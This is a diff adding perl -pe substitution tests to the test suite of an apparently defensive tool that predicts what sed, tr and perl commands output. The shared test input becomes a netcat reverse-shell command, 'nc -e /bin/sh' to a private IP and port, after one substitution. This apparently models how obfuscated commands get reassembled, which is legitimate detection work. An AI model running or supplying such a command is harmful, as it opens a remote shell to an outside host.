@@ -1,5 +1,5 @@
-"""sed and tr outputs as the reader computes them. Each expected output is what GNU sed 4.9 and
-GNU tr (coreutils 9.1) printed for the same script and input."""
+"""sed, tr and perl -pe outputs as the reader computes them. Each expected output is what GNU sed
+4.9, GNU tr (coreutils 9.1) and perl 5.36 printed for the same script and input."""
 import pytest
 
 from vigiles.analysis import sed
@@ -83,3 +83,27 @@ def test_tr_with_ranges_classes_and_deletion(args, expected):
                                   ["a", ""], ["[:nope:]", "b"]])
 def test_tr_forms_not_computed_are_unknown(args):
     assert output_of("tr", args, "abc\n") is None
+
+
+PERL_INPUT = "ZZ -e /bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"
+
+
+@pytest.mark.parametrize("args, expected", [
+    (["-pe", "s/ZZ/nc/"], "nc -e /bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"),
+    (["-pe", "s/(a)(b)/$2$1/g"], "ZZ -e /bin/sh 10.0.0.1 4444\nbac bac\n  x  \nlast"),
+    (["-pe", "s/b/[$&]/"], "ZZ -e /[b]in/sh 10.0.0.1 4444\na[b]c abc\n  x  \nlast"),
+    (["-pe", "s/\\s+/_/g"], "ZZ_-e_/bin/sh_10.0.0.1_4444_abc_abc__x_last"),  # the newline is matched too
+    (["-pe", "s/c$//"], "ZZ -e /bin/sh 10.0.0.1 4444\nabc ab\n  x  \nlast"),     # $ before the newline
+    (["-pe", "tr/a-z/n-za-m/"], "ZZ -r /ova/fu 10.0.0.1 4444\nnop nop\n  k  \nynfg"),
+    (["-p", "-e", "s|/bin|/usr/bin|"], "ZZ -e /usr/bin/sh 10.0.0.1 4444\nabc abc\n  x  \nlast"),
+    (["-pe", "s/(\\w+) (\\w+)/${2} ${1}/"], "ZZ -e /bin/10 sh.0.0.1 4444\nabc abc\n  x  \nlast"),
+])
+def test_perl_substitutions_print_what_perl_prints(args, expected):
+    assert output_of("perl", args, PERL_INPUT) == expected
+
+
+@pytest.mark.parametrize("args", [["-ne", "print"], ["-pe", "s/a/b/e"], ["-pe", "$_=uc"], ["-i", "-pe", "s/a/b/"],
+                                  ["-pe", "s/a/$x/"], ["-e", "s/a/b/"], ["-pe", "s{a}{b}"], ["-pe", "s/(?=a)/b/"],
+                                  ["-pe", "s/.*/echo \\1/"]])
+def test_perl_code_that_is_not_only_substitution_is_unknown(args):
+    assert output_of("perl", args, PERL_INPUT) is None
